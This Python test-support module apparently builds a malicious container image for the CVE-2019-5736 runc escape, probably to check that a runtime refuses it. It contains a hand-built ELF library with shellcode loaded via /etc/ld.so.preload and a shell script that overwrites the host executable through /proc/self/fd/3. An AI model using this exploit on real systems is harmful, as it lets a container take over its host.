"""The image of CVE-2019-5736: whoever runs a program of the host in it has its file held open, and written to by a program of the image.

The dynamic loader runs a library of the image, named by /etc/ld.so.preload, inside the host's program. It opens /proc/self/exe for
reading and executes /bin/evil, which opens that descriptor again for writing: nobody runs the file any more.
"""

from __future__ import annotations

import errno
import os
import platform
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest

INTERPRETER = os.path.realpath(sys.executable)
#: What a container of the image runs.
COMMAND = "/proc/self/exe"
REFUSED = "can't create /proc/self/fd/3: Read-only file system"
_EVIL = """#!/bin/sh
# where there is a folder for it: from here on a process of its own, which waits until it is told to go on
if [ -d /told ] && [ "$1" != now ]; then
  "$0" now >/told/attempts 2>&1 &
  echo ready
  wait
  exit
fi
[ "$1" = now ] && while [ ! -e /told/go ]; do sleep 0.05; done
i=0
while [ $i -lt 20 ]; do
  i=$((i+1))
  echo pwned >/proc/self/fd/3 && echo won
done 2>&1
[ "$1" = now ] && echo done
exit 0
"""


def files() -> dict[str, bytes]:
    """The files that make an image with /bin/sh the attacker's, by their paths without the leading slash; /bin/evil is a program."""
    if platform.machine() != "x86_64":
        pytest.fail("the library of this attack is made for x86_64 alone")
    listed = subprocess.run(["ldd", INTERPRETER], capture_output=True, text=True, check=True).stdout
    libraries = [word for word in listed.split() if word.startswith("/")]
    return {
        **{path.lstrip("/"): Path(path).read_bytes() for path in libraries},
        "etc/ld.so.preload": b"/evil.so\n",
        "evil.so": _library(_constructor()),
        "bin/evil": _EVIL.encode(),
    }


def poison(root: Path) -> None:
    """Puts them into a root file system."""
    for name, content in files().items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        path.chmod(0o755)


def _constructor() -> bytes:
    """open("/proc/self/exe", O_RDONLY); execve("/bin/evil", {"/bin/evil", 0}, {0}); return"""
    opens, executes = (
        b"\x31\xf6\x31\xd2\xb8\x02\x00\x00\x00\x0f\x05",
        b"\x6a\x00\x48\x89\xe2\x57\x48\x89\xe6\xb8\x3b\x00\x00\x00\x0f\x05",
    )
    returns = b"\x5f\x5f\xc3"
    load = b"\x48\x8d\x3d"  # lea rdi, [rip + ...]
    first, second = len(opens) + 7, len(executes) + len(returns) + 7
    exe, evil = b"/proc/self/exe\0", b"/bin/evil\0"
    to_exe, to_evil = struct.pack("<i", first + second - 7), struct.pack("<i", second + len(exe) - 7)
    return load + to_exe + opens + load + to_evil + executes + returns + exe + evil


def _library(code: bytes) -> bytes:
    """A shared library (elf(5)) with nothing but ``code``, which is called when it is loaded (DT_INIT)."""
    code_at, entries = 64 + 2 * 56, 6
    dynamic_at = -(-(code_at + len(code)) // 16) * 16
    strings_at = dynamic_at + entries * 16
    symbols_at = strings_at + 8
    end = symbols_at + 24
    init, strtab, strsz, symtab, syment, null = 12, 5, 10, 6, 11, 0
    dynamic = ((init, code_at), (strtab, strings_at), (strsz, 1), (symtab, symbols_at), (syment, 24), (null, 0))
    head = b"\x7fELF\x02\x01\x01".ljust(16, b"\0") + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 2, 0, 0, 0)
    load = struct.pack("<IIQQQQQQ", 1, 7, 0, 0, 0, end, end, 4096)
    described = struct.pack("<IIQQQQQQ", 2, 6, dynamic_at, dynamic_at, dynamic_at, entries * 16, entries * 16, 8)
    image = bytearray(end)
    image[: code_at + len(code)] = head + load + described + code
    image[dynamic_at:strings_at] = b"".join(struct.pack("<QQ", *entry) for entry in dynamic)
    return bytes(image)


def wait_for_attempts(folder: Path) -> str:
    """Lets the program that waits try, and waits until it has; ``folder`` is /told in the container."""
    (folder / "go").touch()
    deadline = time.monotonic() + 30
    while "done" not in (said := (folder / "attempts").read_text() if (folder / "attempts").exists() else ""):
        assert time.monotonic() < deadline, said
        time.sleep(0.05)
    return said


def writable_files(pid: int) -> list[str]:
    """The files that a process runs or maps and that root of the host can change in this way (a file that runs is busy besides)."""
    folder = Path(f"/proc/{pid}")
    found = []
    for link in (folder / "exe", *(folder / "map_files").iterdir()):
        try:
            target = str(link.readlink())
            if link.is_file() and not target.startswith(("/memfd:", "/dev/zero")):
                link.chmod(link.stat().st_mode)
                found.append(target)
        except OSError as error:
            if error.errno not in (errno.EROFS, errno.ENOENT):
                raise
    return found
